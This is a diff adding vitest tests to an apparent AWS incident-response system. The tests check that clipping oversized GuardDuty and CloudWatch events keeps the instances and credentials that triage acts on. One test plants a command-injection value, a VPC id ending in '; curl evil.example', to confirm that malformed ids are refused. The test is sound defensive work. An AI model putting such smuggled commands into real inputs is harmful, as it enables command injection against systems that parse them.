@@ -5,8 +5,8 @@
  */
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { CLIPPED_EVENT_TARGET_BYTES, OVERSIZED_EVENT_THRESHOLD_BYTES, payloadBytes } from '../../lib/contracts/payload-size';
-import { CLIPPED_EVENT_MARKER, FINDING_CONFIRMED_BY, clipOversizedEvent, isOversizedEvent } from '../../lib/incident/clip-event';
+import { CLIPPED_EVENT_TARGET_BYTES, EVENTBRIDGE_EVENT_LIMIT_BYTES, OVERSIZED_EVENT_THRESHOLD_BYTES, payloadBytes } from '../../lib/contracts/payload-size';
+import { CLIPPED_EVENT_MARKER, EventClippingError, FINDING_CONFIRMED_BY, clipOversizedEvent, isOversizedEvent } from '../../lib/incident/clip-event';
 import { parseEvent } from '../../lib/incident/parse';
 import { describeClipping } from '../../lib/incident/budget';
 import { routingTableFor } from '../../lib/playbooks/routing';
@@ -289,5 +289,141 @@ describe('a confirmed copy the intake clipped: its execution name (row 8i)', () 
     expect(genuineName).toBe(executionNameFor(genuine));
     // Under GuardDuty's name, the real delivery would end at DuplicateDelivery and only the clip would act.
     expect(forgedName).not.toBe(genuineName);
+  });
+});
+
+describe('the clip never shortens a list a decision reads (row 8j)', () => {
+  const table = () => routingTableFor(loadPlaybookDirectorySync(SHIPPED_PLAYBOOKS_DIR), { forceDryRun: false });
+  /** 50 tags of EC2's longest keys and values in 4-byte characters (about 77 KB): what ec2:CreateTags on one's own instance allows. */
+  const maximalTags = () => Array.from({ length: 50 }, (_, index) => ({ key: `${String(index).padStart(2, '0')}${'😀'.repeat(126)}`, value: '😀'.repeat(256) }));
+  /**
+   * What decides which instances and credentials are acted on: triage's targets and the incident's
+   * resources. Not the tags the finding reports: they are shown in the alert only (the guard and the
+   * steps read an instance's tags from EC2 as they act), and the clip cuts them first.
+   */
+  const decisionOf = (event: Json) => {
+    const incident = parseEvent(event, { receivedAt: RECEIVED });
+    const decision = triage(incident, table());
+    const { tags: _tags, ...resource } = incident.resource as unknown as Json;
+    return {
+      outcome: decision.outcome,
+      playbook: decision.playbook,
+      targets: (decision.targets ?? []).map((target) => ('instanceId' in target ? target.instanceId : target.id)),
+      resource,
+      affected: incident.affected,
+    };
+  };
+  /**
+   * A genuine attack sequence over 255 KiB: the attacker, on web-1 and web-3 (which GuardDuty lists
+   * after the group, the profile, the session key and the interface), tags every instance they reach
+   * with EC2's maximal tags, as the finding reports them. Only the intake can dispatch it; GuardDuty
+   * confirms it (it is GuardDuty's own finding).
+   */
+  const grownSequence = () => {
+    const event = clone(fixtureEvent('guardduty-attack-sequence-ec2-compromised-instance-group.json')) as Json & { detail: Json };
+    const detail = event.detail as { resource: { instanceDetails: Json }; service: { detection: { sequence: { resources: Json[] } } } };
+    const resources = detail.service.detection.sequence.resources;
+    const [web3] = resources.splice(2, 1);
+    resources.push(web3 as Json);
+    for (const resource of resources) if (resource.resourceType === 'EC2_INSTANCE') resource.tags = maximalTags();
+    detail.resource.instanceDetails.tags = maximalTags();
+    return event;
+  };
+
+  it('ATTACK (review-inputs): an attack sequence grown by its instances\' tags lost the instance GuardDuty lists last from its clip: never contained, never named', () => {
+    const event = grownSequence();
+    expect(isOversizedEvent(event)).toBe(true);
+    const whole = decisionOf(event);
+    expect(whole.outcome).toBe('start-playbook');
+    expect(whole.targets).toContain('i-0c1d2e3f4a5b60719');
+    const copy = clipOversizedEvent(event, CLIPPED_EVENT_TARGET_BYTES, FINDING_CONFIRMED_BY);
+    expect(copy.bytes).toBeLessThanOrEqual(CLIPPED_EVENT_TARGET_BYTES);
+    // Before the fix: the resources list was halved, and web-3, the session key and the interface were gone.
+    expect(decisionOf(copy.event)).toEqual(whole);
+  });
+
+  it('ATTACK (review-inputs): an IAM attack sequence grown by one key\'s resource lost the credentials after it', () => {
+    const event = clone(fixtureEvent('guardduty-attack-sequence-iam-compromised-credentials.json')) as Json & { detail: Json };
+    const resources = (event.detail as { service: { detection: { sequence: { resources: Json[] } } } }).service.detection.sequence.resources;
+    // Each key's user or role carries its principal's tags as the finding reports them (iam:TagUser,
+    // iam:TagRole on itself), and the sessions sent a long user agent (sequenceIndicators).
+    for (const resource of resources) resource.tags = maximalTags();
+    const sequence = (event.detail as { service: { detection: { sequence: { sequenceIndicators?: Json[] } } } }).service.detection.sequence;
+    sequence.sequenceIndicators = [{ key: 'USER_AGENT', title: 'User agent', values: [`aws-cli/2.15 ${'x'.repeat(30_000)}`] }, ...(sequence.sequenceIndicators ?? [])];
+    expect(isOversizedEvent(event)).toBe(true);
+    const whole = decisionOf(event);
+    expect(whole.targets.length).toBeGreaterThan(1);
+    const copy = clipOversizedEvent(event, CLIPPED_EVENT_TARGET_BYTES, FINDING_CONFIRMED_BY);
+    expect(decisionOf(copy.event)).toEqual(whole);
+  });
+
+  it('keeps every metric of an alarm: a clip never turns an alarm that names no instance into one that names the first metric\'s', () => {
+    // Larger than PutMetricAlarm allows (30 dimensions a metric): only a forged event at the intake is
+    // this large, and its containment waits for a person (rows 8d, 10c). Defensive: the same floor.
+    const alarm = clone(fixtureEvent('gameday-cloudwatch-alarm-ec2-cpu.json')) as Json & { source: string; detail: { configuration: { metrics: Json[] } } };
+    alarm.source = 'aws.cloudwatch';
+    const [cpu] = alarm.detail.configuration.metrics;
+    const dimensions = { InstanceId: 'i-0fedcba9876543210', ...Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`d${index}`, 'v'.repeat(1000)])) };
+    alarm.detail.configuration.metrics = [cpu as Json, { id: 'm2', metricStat: { metric: { namespace: 'CWAgent', name: 'mem_used_percent', dimensions }, period: 300, stat: 'Average' }, returnData: false }];
+    expect(isOversizedEvent(alarm)).toBe(true);
+    const whole = decisionOf(alarm);
+    expect(whole.resource).toEqual({ kind: 'none' });
+    // Its metrics hold what the parser reads and cannot be cut: no copy, so the intake's invocation
+    // fails, Lambda keeps the event in the undelivered-events queue and its alarm pages. Before: a copy
+    // with the first metric only, naming i-0fedcba9876543210.
+    expect(() => clipOversizedEvent(alarm)).toThrow(EventClippingError);
+  });
+
+  it('ATTACK (review-inputs): a malformed id in an instance\'s last interface is refused at the boundary in the copy as in the event', () => {
+    // A forged event at the intake (unconfirmed): the boundary refuses an incident whose ids cannot
+    // name real resources; the clip halved the interfaces and took the malformed one away.
+    const event = multiEni();
+    const details = (event.detail as { resource: { instanceDetails: { networkInterfaces: Json[] } } }).resource.instanceDetails;
+    const last = clone(details.networkInterfaces[0] as Json);
+    last.networkInterfaceId = 'eni-0123456789abcdef0';
+    last.vpcId = 'vpc-0123; curl evil.example';
+    last.securityGroups = Array.from({ length: 5000 }, (_, index) => ({ groupId: `sg-${index.toString(16).padStart(17, '0')}`, groupName: `g${index}` }));
+    details.networkInterfaces.push(last);
+    expect(isOversizedEvent(event)).toBe(true);
+    const whole = decisionOf(event);
+    expect(whole.outcome).toBe('alert-only');
+    expect(decisionOf(clipOversizedEvent(event).event).outcome).toBe('alert-only');
+  });
+
+  it('tried (review-inputs): an S3 scan result grown by its threats keeps the object its uploader named, key at S3\'s 1024 bytes, exactly', () => {
+    const scan = clone(fixtureEvent('guardduty-malware-protection-s3-threats-found.json')) as Json & { detail: { s3ObjectDetails: Json; scanResultDetails: { threats: Json[] } } };
+    scan.detail.s3ObjectDetails.objectKey = `incoming/${'k'.repeat(1015)}`;
+    // An archive of thousands of infected files, each a threat with the path the uploader chose.
+    scan.detail.scanResultDetails.threats = Array.from({ length: 3000 }, (_, index) => ({ name: `EICAR-Test-File ${index} ${'x'.repeat(80)}`, source: 'AMAZON' }));
+    expect(isOversizedEvent(scan)).toBe(true);
+    const whole = parseEvent(scan, { receivedAt: RECEIVED });
+    const copy = parseEvent(clipOversizedEvent(scan, CLIPPED_EVENT_TARGET_BYTES).event, { receivedAt: RECEIVED });
+    expect(copy.affected).toEqual(whole.affected);
+    expect(triage(copy, table()).playbook).toBe(triage(whole, table()).playbook);
+  });
+
+  it('keeps a sequence\'s resources beyond those the parser reads to one more, so that the copy still says some were left out, leaving out their tags to fit', () => {
+    const event = clone(fixtureEvent('guardduty-attack-sequence-ec2-compromised-instance-group.json')) as Json & { detail: Json };
+    const sequence = (event.detail as { service: { detection: { sequence: { resources: Json[] } } } }).service.detection.sequence;
+    const instance = sequence.resources.find((resource) => resource.resourceType === 'EC2_INSTANCE') as Json;
+    const tags = Array.from({ length: 4 }, (_, index) => ({ key: `team-${index}`, value: 'w'.repeat(256) }));
+    for (let index = 0; index < 390; index += 1) sequence.resources.push({ ...clone(instance), uid: `i-0${index.toString(16).padStart(16, '0')}`, name: `web-${index}`, tags });
+    expect(isOversizedEvent(event)).toBe(true);
+    const copy = clipOversizedEvent(event, CLIPPED_EVENT_TARGET_BYTES, FINDING_CONFIRMED_BY).event as { detail: { service: { detection: { sequence: { resources: Json[] } } } } };
+    expect(copy.detail.service.detection.sequence.resources).toHaveLength(251);
+    expect(parseEvent(copy, { receivedAt: RECEIVED }).sequence?.omitted.resources).toBeGreaterThan(0);
+    expect(decisionOf(copy as unknown as Json)).toEqual(decisionOf(event));
+  });
+
+  it('still fits a sequence whose every resource carries maximal tags: the tags are cut, never the resources', () => {
+    const event = grownSequence();
+    const resources = (event.detail as { service: { detection: { sequence: { resources: Json[] } } } }).service.detection.sequence.resources;
+    const instance = resources.find((resource) => resource.resourceType === 'EC2_INSTANCE') as Json;
+    for (let index = 0; index < 9; index += 1) resources.push({ ...clone(instance), uid: `i-0${index.toString(16).padStart(16, '0')}`, tags: maximalTags() });
+    expect(payloadBytes(event)).toBeGreaterThan(900_000);
+    expect(payloadBytes(event)).toBeLessThanOrEqual(EVENTBRIDGE_EVENT_LIMIT_BYTES);
+    const copy = clipOversizedEvent(event, CLIPPED_EVENT_TARGET_BYTES, FINDING_CONFIRMED_BY);
+    expect(copy.bytes).toBeLessThanOrEqual(CLIPPED_EVENT_TARGET_BYTES);
+    expect(decisionOf(copy.event)).toEqual(decisionOf(event));
   });
 });
